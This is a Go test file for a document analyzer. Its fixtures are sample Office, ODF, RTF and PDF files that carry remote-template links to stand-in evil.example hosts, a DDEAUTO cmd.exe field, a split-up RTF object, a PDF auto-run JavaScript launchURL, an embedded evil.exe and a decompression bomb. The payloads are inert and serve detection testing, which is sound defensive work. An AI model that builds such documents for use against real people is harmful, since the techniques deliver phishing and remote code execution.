package document

import (
	"archive/zip"
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"clew/internal/artifact/view"
)

func viewOf(data string) view.View { return view.New(strings.NewReader(data), int64(len(data))) }

func zipped(t testing.TB, parts map[string]string) string {
	t.Helper()
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for name, text := range parts {
		f, err := w.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

var docx = map[string]string{
	"[Content_Types].xml": `<Types/>`,
	"docProps/core.xml": `<cp:coreProperties xmlns:cp="c" xmlns:dc="d"><dc:creator>Evil Author</dc:creator>` +
		`<cp:lastModifiedBy>other</cp:lastModifiedBy></cp:coreProperties>`,
	"docProps/app.xml": `<Properties><Application>Microsoft Office Word</Application><Template>Normal.dotm</Template></Properties>`,
	"word/_rels/settings.xml.rels": `<Relationships><Relationship Id="r1" ` +
		`Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ` +
		`Target="http://template.evil.example/a.dotm" TargetMode="External"/>` +
		`<Relationship Id="r2" Type="x/image" Target="media/a.png"/></Relationships>`,
	"word/document.xml":              `<w:document xmlns:w="w"><w:p><w:t>visit http://text.</w:t><w:t>evil.example/b</w:t></w:p></w:document>`,
	"word/vbaProject.bin":            "macros",
	"word/embeddings/oleObject1.bin": "object",
}

func TestOOXML(t *testing.T) {
	info, err := OOXML(viewOf(zipped(t, docx)))
	if err != nil {
		t.Fatal(err)
	}
	properties := map[string]string{}
	for _, p := range info.Properties {
		properties[p.Name] = p.Value
	}
	if diff := cmp.Diff(map[string]string{
		"creator": "Evil Author", "lastModifiedBy": "other", "Application": "Microsoft Office Word", "Template": "Normal.dotm",
	}, properties); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]Link{{"attachedTemplate", "http://template.evil.example/a.dotm"}}, info.Links); diff != "" {
		t.Error(diff)
	}
	if !info.Macros || len(info.Embedded) != 2 || !strings.Contains(info.Text, "visit http://text.evil.example/b\n") {
		t.Errorf("macros %v, embedded %v, text %q", info.Macros, info.Embedded, info.Text)
	}
}

func TestODF(t *testing.T) {
	info, err := ODF(viewOf(zipped(t, map[string]string{
		"META-INF/manifest.xml": "<x/>",
		"meta.xml":              `<m xmlns:dc="d" xmlns:meta="m"><dc:creator>Evil</dc:creator><meta:generator>LibreOffice</meta:generator></m>`,
		"content.xml":           `<c xmlns:xlink="x"><p>see <a xlink:href="http://odf.evil.example/">here</a></p></c>`,
		"Basic/Standard/M.xml":  `Shell "x"`,
	})))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]Link{{"hyperlink", "http://odf.evil.example/"}}, info.Links); diff != "" {
		t.Error(diff)
	}
	if !info.Macros || len(info.Properties) != 2 || len(info.Scripts) != 1 {
		t.Errorf("%+v", info)
	}
}

func TestRTF(t *testing.T) {
	object := "0105000002000000" + "08000000" + fmt.Sprintf("%x", "Package\x00") + "00000000" + "00000000" + "07000000" + fmt.Sprintf("%x", "payload")
	broken := strings.ReplaceAll(object, "5061", "50\r\n {\\x} 61") // readers skip what stands between the digits
	info, err := RTF(viewOf(`{\rtf1{\info{\author Evil \'41uthor}{\operator op}}` +
		`{\*\template http://template.evil.example/t.dot}` +
		`{\field{\*\fldinst{HYPERLINK "http://link.evil.example/a"}}{\fldrslt here}}` +
		`{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\cmd.exe "/c x"}}` +
		`{\object\objemb\objupdate{\*\objclass Package}{\*\objdata ` + broken + `}}text\par }`))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]Link{{"template", "http://template.evil.example/t.dot"}, {"hyperlink", "http://link.evil.example/a"}}, info.Links); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"DDEAUTO", "objemb", "objupdate"}, info.Actions); diff != "" {
		t.Error(diff)
	}
	if len(info.Embedded) != 1 || info.Embedded[0].Name != "Package" || string(info.Embedded[0].Data) != "payload" {
		t.Errorf("embedded %q", info.Embedded)
	}
	if info.Properties[0] != (Property{"author", "Evil Author"}) || !strings.Contains(info.Text, "text\n") {
		t.Errorf("properties %v, text %q", info.Properties, info.Text)
	}
}

const evilPDF = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n" +
	"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/Annots[4 0 R]>>endobj\n" +
	"4 0 obj<</Type/Annot/A<</S/URI/URI(http://pdf.evil.example/a)>>>>endobj\n" +
	"5 0 obj<</S/JavaScript/JS(app.launchURL\\('http://script.evil.example/b'\\))>>endobj\n" +
	"6 0 obj<</Type/Filespec/F(evil.exe)/EF<</F 7 0 R>>>>endobj\n" +
	"7 0 obj<</Length 7>>stream\npayload\nendstream endobj\n" +
	"8 0 obj<</Author(Evil)/Producer(\xfe\xff\x00w\x00k)>>endobj\ntrailer<</Root 1 0 R/Info 8 0 R>>\n"

func TestPDF(t *testing.T) {
	info, err := PDF(viewOf(evilPDF))
	if err != nil {
		t.Fatal(err)
	}
	want := &Info{
		Properties: []Property{{"Author", "Evil"}, {"Producer", "wk"}},
		Links:      []Link{{"action", "http://pdf.evil.example/a"}},
		Actions:    []string{"JavaScript"},
		Embedded:   []Embedded{{"evil.exe", []byte("payload")}},
		Problems:   []string{},
		Scripts:    []string{"app.launchURL('http://script.evil.example/b')"},
	}
	if diff := cmp.Diff(want, info); diff != "" {
		t.Error(diff)
	}
}

// TestBombs: parts that claim little and unpack to much end at the bound.
func TestBombs(t *testing.T) {
	info, err := OOXML(viewOf(zipped(t, map[string]string{"word/document.xml": "<w>" + strings.Repeat(" ", maxPart+5)})))
	if err != nil || len(info.Problems) != 1 {
		t.Errorf("%v, problems %v", err, info.Problems)
	}
}

func FuzzOffice(f *testing.F) {
	f.Add([]byte(zipped(f, docx)))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, read := range []func(view.View) (*Info, error){OOXML, ODF} {
			if info, err := read(view.New(bytes.NewReader(data), int64(len(data)))); err == nil && len(info.Links) > maxLinks {
				t.Error("more links than the bound")
			}
		}
	})
}

func FuzzRTF(f *testing.F) {
	f.Add([]byte(`{\rtf1{\info{\author x}}{\object{\*\objdata 0105000002000000080000005061636b616765}}{\field{\*\fldinst HYPERLINK "http://a.example"}}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		info, err := RTF(view.New(bytes.NewReader(data), int64(len(data))))
		if err != nil {
			t.Fatal(err)
		}
		if len(info.Embedded) > maxEmbedded || len(info.Problems) > 20 {
			t.Error("a bound does not hold")
		}
	})
}

func FuzzPDF(f *testing.F) {
	f.Add([]byte(evilPDF))
	f.Fuzz(func(_ *testing.T, data []byte) {
		_, _ = PDF(view.New(bytes.NewReader(data), int64(len(data))))
	})
}
